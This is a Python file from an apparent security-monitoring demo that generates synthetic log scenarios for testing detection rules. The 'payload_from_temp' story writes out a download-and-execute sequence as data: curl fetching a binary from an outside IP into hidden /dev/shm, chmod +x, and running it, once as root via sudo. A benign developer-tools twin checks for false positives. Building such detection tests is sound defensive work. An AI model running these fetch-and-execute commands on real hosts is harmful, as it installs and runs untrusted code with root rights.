"""A program brought along and run from where anybody may write; and tools of developers."""

from __future__ import annotations

from socterm.demo.cast import ALICE, DANA, WEB
from socterm.demo.model import Chapter, Expected, Quiet, Story
from socterm.demo.noise import INTERNET, WORKING
from socterm.demo.noise_audit import RECORDED
from socterm.demo.pen import AUTH, Pen
from socterm.demo.pen_audit import AUDIT, AuditPen, Who
from socterm.demo.sheet import Sheet

TTY = "pts/1"


def _fetched(sheet: Sheet) -> None:
    login = Pen(sheet).login(90.0, Pen(sheet).connect(WEB, ALICE.address), ALICE)
    Pen(sheet).logout(420.0, login)
    pen, home = AuditPen(sheet, WEB), "/home/alice"
    url = "http://203.0.113.88/kworker"
    pen.run(150.0, _ALICE, "/usr/bin/mkdir", ("mkdir", "-p", "/dev/shm/.x"), cwd=home)
    pen.run(156.0, _ALICE, "/usr/bin/curl", ("curl", "-s", "-o", "/dev/shm/.x/kworker", url), cwd=home)
    pen.run(161.0, _ALICE, "/usr/bin/chmod", ("chmod", "+x", "/dev/shm/.x/kworker"), cwd=home)


def _run(sheet: Sheet) -> None:
    pen = AuditPen(sheet, WEB)
    pen.run(170.0, _ALICE, "/dev/shm/.x/kworker", ("/dev/shm/.x/kworker", "-B"), cwd="/home/alice")
    Pen(sheet).sudo(212.0, WEB, ALICE, "/tmp/kworker -B", tty=TTY, lasts=190.0)
    root = Who("root", 0, ALICE.name, ALICE.uid, 12, "pts1")
    pen.run(212.1, root, "/tmp/kworker", ("/tmp/kworker", "-B"), cwd="/home/alice")


def _editor(sheet: Sheet) -> None:
    pen = AuditPen(sheet, WEB)
    node = "/home/dana/.vscode-server/bin/f1e16e1e6214d7c44d078b1f0607b2388f29d729/node"
    pen.run(120.0, _DANA, node, (node, "out/server-main.js", "--port=0"), cwd="/home/dana")
    for number in range(3):
        exe = "/home/dana/.local/bin/uv"
        pen.run(180.0 + 70.0 * number, _DANA, exe, ("uv", "run", "pytest"), cwd="/home/dana/app")


def _packages(sheet: Sheet) -> None:
    pen, root = AuditPen(sheet, WEB), Who("root", 0, DANA.name, DANA.uid, 7, "pts0")
    Pen(sheet).sudo(400.0, WEB, DANA, "/usr/bin/apt install jq", lasts=6.0)
    pen.run(400.1, root, "/usr/bin/apt", ("apt", "install", "jq"), cwd="/home/dana")
    script = "/var/lib/dpkg/info/libc-bin.postinst"
    pen.run(404.0, root, "/usr/bin/dash", ("/bin/sh", script, "triggered", "ldconfig"), cwd="/")
    pen.run(404.3, root, "/usr/sbin/ldconfig", ("ldconfig",), cwd="/")


_ALICE = Who(ALICE.name, ALICE.uid, ALICE.name, ALICE.uid, 12, "pts1")
_DANA = Who(DANA.name, DANA.uid, DANA.name, DANA.uid, 7, "pts0")


STORIES = (
    Story(
        name="payload_from_temp",
        says="a program is fetched into /dev/shm, made executable and run, once more as root through sudo",
        logs=(AUTH, AUDIT),
        length=600.0,
        chapters=(
            Chapter("fetched", "curl -o /dev/shm/.x/kworker, chmod +x", _fetched),
            Chapter("run", "run from /dev/shm, then with sudo from /tmp", _run),
        ),
        noise=(WORKING, RECORDED, INTERNET),
        alerts=(Expected("run_from_temp", {"host.hostname": WEB.name}, ("run",)),),
        quiet=(
            Quiet(
                "root_then_data",
                {"user.name": "alice"},
                "fetched before there was root, and nothing left the house",
            ),
        ),
    ),
    Story(
        name="developer_tools",
        says="dana works with an editor that keeps its server below her home, and installs packages",
        logs=(AUTH, AUDIT),
        length=600.0,
        chapters=(
            Chapter("editor", "programs under ~/.vscode-server and ~/.local/bin", _editor),
            Chapter("packages", "apt: maintainer scripts of dpkg, helpers of /usr/lib", _packages),
        ),
        noise=(WORKING, RECORDED, INTERNET),
        quiet=(
            Quiet(
                "run_from_temp",
                {"host.hostname": WEB.name},
                "hidden folders of a home are where tools live; dpkg has its own",
            ),
        ),
        twin_of="payload_from_temp",
    ),
)
